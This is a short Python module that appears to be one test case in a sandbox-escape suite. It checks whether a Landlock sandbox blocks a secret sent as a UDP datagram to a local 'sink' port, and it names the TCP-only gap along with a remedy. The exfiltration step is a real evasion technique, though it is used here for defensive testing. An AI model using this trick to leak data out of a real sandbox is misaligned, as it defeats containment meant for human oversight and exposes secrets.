# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: one UDP datagram. Landlock's network rules know TCP only.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sink:
            sink.sendto(brief.secret.encode(), ("127.0.0.1", brief.sink))
    except OSError as why:
        return denied("UDP", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "one UDP datagram, which rules for TCP do not see",
    "oracle": "sink",
    "quick": True,
    "id": "NET-02",
    "attack_id": "T1048, CWE-668",
    "remedy": "seccomp without socket(2), datagrams included; a network namespace",
    "refs": ["landlock(7)"],
    "run": run,
}
